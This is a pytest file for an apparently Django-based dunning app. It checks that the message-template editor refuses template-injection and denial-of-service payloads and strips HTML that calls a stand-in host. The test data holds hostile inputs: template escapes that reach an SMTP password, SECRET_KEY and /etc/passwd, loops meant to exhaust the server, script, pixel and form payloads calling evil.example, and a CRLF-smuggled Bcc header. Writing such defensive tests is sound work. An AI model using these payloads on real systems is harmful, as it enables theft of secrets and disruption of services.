"""The attacks of E8 on a tenant's text, each through the page where people write: refused, quick, without a trace."""

import time

import pytest
from django.conf import settings
from django.http import HttpResponse

from dunning.messages.engine import SECONDS
from dunning.models import MessageText
from tests.dunning.messages.conftest import OURS, Desk

REFUSED = {
    "climb from a value": "{{ customer.tenant.smtp_password }}",
    "climb by dunder": "{{ total.__class__.__mro__[1].__subclasses__ }}",
    "climb from a line": "{% for i in items %}{{ i.__class__.__init__.__globals__ }}{% endfor %}",
    "call a method": "{{ customer.delete }}{{ items[0].save }}",
    "include a file": "{% include '/etc/passwd' %}",
    "render a file": "{% render '../../otc/settings.py' %}",
    "dump the context": "{% debug %}",
    "reach the settings": "{% assign s = django.conf.settings %}{{ s.SECRET_KEY }}",
    "endless loop": "{% for a in (1..100000000) %}{% endfor %}",
    "nested loops": "{% for a in (1..9000) %}{% for b in (1..9000) %}{% endfor %}{% endfor %}",
    "loops in a row": "{% for a in (1..9000) %}{% endfor %}" * 1_000,
    "a giant text": "{% assign a = 'x' %}" + "{% capture a %}{{ a }}{{ a }}{% endcapture %}" * 40,
    "a giant output": "{% for a in (1..9999) %}" + "x" * 1_000 + "{% endfor %}",
    "multiply by filters": "{{ 'xxxxxxxxxx'" + " | replace: 'x', 'xxxxxxxxxx'" * 12 + " }}",
    "deep nesting": "{% if true %}" * 200 + "{% endif %}" * 200,
    "burn the clock": "{% for a in (1..10000) %}"
    + "{% if 1 == 2 %}{% endif %}" * 1_500
    + "{% endfor %}",
}


@pytest.mark.parametrize("attack", REFUSED.values(), ids=REFUSED.keys())
def test_an_attack_is_refused_at_its_field_and_nothing_is_kept(desk: Desk, attack: str) -> None:
    desk.author.post("/templates/courteous/fr/draft")
    data = {**OURS, "body": attack, "seen": desk.seen()}
    begin = time.perf_counter()
    answer = desk.author.post("/templates/courteous/fr", data)
    seconds = time.perf_counter() - begin
    assert isinstance(answer, HttpResponse)
    assert answer.status_code == 422
    assert seconds < 5 * SECONDS  # the limit is one second; a shared machine is slow around it
    page = answer.content.decode()
    assert settings.SECRET_KEY not in page
    assert "root:x:0" not in page
    assert "class &#x27;" not in page
    with desk.house.scope():
        assert attack not in MessageText.objects.get().body


HARMLESS = {
    "a script": "<script>fetch('https://evil.example')</script>",
    "a picture that tells": "<img src='https://evil.example/pixel.gif'>",
    "a link that runs": "<a href='javascript:alert(1)'>x</a>",
    "a form": "<form action='https://evil.example'><input name=iban></form>",
    "a style": "<style>@import 'https://evil.example';</style><p style='background:url(https://evil.example)'>x</p>",
    "a frame": "<iframe src='https://evil.example'></iframe>",
    "a block of ours, forged": "\ue000transfer\ue001",
}


@pytest.mark.parametrize("html", HARMLESS.values(), ids=HARMLESS.keys())
def test_written_html_shows_nothing_foreign_in_the_preview(desk: Desk, html: str) -> None:
    desk.write(body=OURS["body"] + html, blocks=[])
    shown = desk.show()
    assert shown.status_code == 302
    customer = desk.customers["B-CREDIT"].pk
    mail = desk.author.get(f"/templates/courteous/fr/preview/{customer}").content.decode()
    assert "evil.example" not in mail
    assert "javascript:" not in mail
    assert "<script" not in mail
    assert "FR76" not in mail


def test_a_subject_ends_no_header(desk: Desk) -> None:
    answer = desk.write(subject="Rappel\r\nBcc: all@evil.example {{ total }}")
    with desk.house.scope():
        kept = MessageText.objects.get().subject
    assert answer.status_code == 302
    desk.show()
    page = desk.author.get("/templates/courteous/fr/preview").content.decode()
    assert "Bcc" in page  # its words are shown, on one line
    assert "\r" not in kept or "\nBcc" not in page


def test_a_customers_name_is_only_a_name(desk: Desk) -> None:
    with desk.house.scope():
        customer = desk.customers["B-CREDIT"]
        customer.name = '<script>alert("x")</script> {{ total }} \ue000items\ue001'
        customer.save()
    desk.write()
    mail = desk.author.get(f"/templates/courteous/fr/preview/{customer.pk}").content.decode()
    assert "<script" not in mail
    assert "&lt;script&gt;" in mail
    assert "{{ total }}" in mail
